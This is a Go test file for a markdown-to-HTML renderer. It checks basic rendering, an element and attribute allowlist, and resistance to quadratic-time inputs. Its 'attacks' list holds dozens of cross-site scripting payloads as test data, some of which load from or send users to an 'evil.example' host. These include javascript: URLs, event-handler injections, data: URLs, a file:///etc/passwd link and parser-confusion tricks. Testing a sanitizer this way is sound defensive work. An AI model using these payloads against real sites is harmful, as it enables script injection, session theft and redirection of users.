package markdown_test

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/entwine-go/entwine/kit/gen/markdown"
)

func TestHTML(t *testing.T) {
	for text, want := range map[string]string{
		"":                                  "",
		"# A *title*":                       "<h1>A <em>title</em></h1>\n",
		"a **b** `c < d`\n\n1. e\n2. ~~f~~": "<p>a <strong>b</strong> <code>c &lt; d</code></p>\n<ol>\n<li>e</li>\n<li><del>f</del></li>\n</ol>\n",
		"[x](https://example.com 'y')":      `<p><a href="https://example.com" title="y" rel="nofollow noreferrer">x</a></p>` + "\n",
		"![x](https://example.com/x.png)":   `<p><img src="https://example.com/x.png" alt="x"></p>` + "\n",
		"|a|\n|-|\n|b|":                     "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>\n",
		"5 > 4 & 3 < 4":                     "<p>5 &gt; 4 &amp; 3 &lt; 4</p>\n",
	} {
		if got := string(markdown.HTML(nil, []byte(text))); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// Nothing is left that could run, look like something else or tell where a
// reader is: what comes out is read as a browser reads it.
func TestNothingEvilIsLeft(t *testing.T) {
	attributes := map[string]string{"href": "a", "title": "a img", "rel": "a", "src": "img", "alt": "img", "start": "ol"}
	for _, text := range attacks {
		out := string(markdown.HTML(nil, []byte(text)))
		for z := html.NewTokenizer(strings.NewReader(out)); z.Next() != html.ErrorToken; {
			token := z.Token()
			if token.Type == html.TextToken {
				continue
			}
			if token.Type == html.CommentToken || token.Type == html.DoctypeToken || !slices.Contains(elements, token.Data) {
				t.Errorf("%q became %q: %s", text, out, token)
			}
			for _, a := range token.Attr {
				plain := strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "mailto:")
				if !slices.Contains(strings.Fields(attributes[a.Key]), token.Data) || (a.Key == "href" || a.Key == "src") && !plain {
					t.Errorf("%q became %q: %s=%q", text, out, a.Key, a.Val)
				}
			}
		}
	}
}

var elements = strings.Fields("h1 h2 h3 h4 h5 h6 p br hr blockquote pre code em strong del ul ol li table thead tbody tr th td a img")

var attacks = []string{
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"a <img src=x onerror=alert(1)> b",
	"<img src=\"https://example.com/x.png\" onload='alert(1)'>",
	"<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
	"<math><mi xlink:href=\"data:x,<script>alert(1)</script>\"></math>",
	"<iframe src=\"javascript:alert(1)\"></iframe>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](  javascript:alert(1))", "[x](java\tscript:alert(1))",
	"[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](<java\nscript:alert(1)>)", "[x](\x01javascript:alert(1))",
	"[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](/api/v1/auth/logout)",
	"![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zy8+)", "![x](data:image/png;base64,AAAA)",
	"![x](https://example.com/x.png\"onerror=\"alert(1))", "![\" onerror=\"alert(1)](https://example.com/x.png)",
	"[x](https://example.com/\"onmouseover=\"alert(1))", "[x](https://example.com \"y\\\" onclick=\\\"alert(1)\")",
	"<javascript:alert(1)>", "<data:text/html,x>",
	"[x]: javascript:alert(1)\n\n[x]", "[x]: data:text/html,x\n\n![x]",
	"<style>@import 'https://evil.example'</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>",
	"<form action=https://evil.example><input name=x><button>x</button></form>",
	"<base href=https://evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<!--[if IE]><script>alert(1)</script><![endif]-->", "<?php echo 1 ?>", "<![CDATA[<script>alert(1)</script>]]>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<scr<script>ipt>alert(1)</scr</script>ipt>",
	"| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |",
	"# x <a id=y onclick=alert(1)>z</a>", "<details open ontoggle=alert(1)>",
}

// A text whose rendering would take quadratic time is shown as escaped text.
func TestExpensiveTexts(t *testing.T) {
	for _, part := range []string{"[", "![", "*a_", "> ", "1. ", "`a", "**a*", "~~a", "<a", "&#", "\\", "[a](", "[a]: b\n", "|", "- "} {
		text := strings.Repeat(part, 100_000/len(part))
		if got := string(markdown.HTML(nil, []byte(text))); got != "<pre>"+html.EscapeString(text)+"</pre>\n" {
			t.Errorf("%q many times became %.100q", part, got)
		}
	}
	prose := strings.Repeat("It can do *whatever* we [know](https://example.com) how to order it to perform.\n\n", 1000)
	if got := string(markdown.HTML(nil, []byte(prose))); strings.Count(got, "<em>whatever</em>") != 1000 {
		t.Errorf("prose became %.200q", got)
	}
}
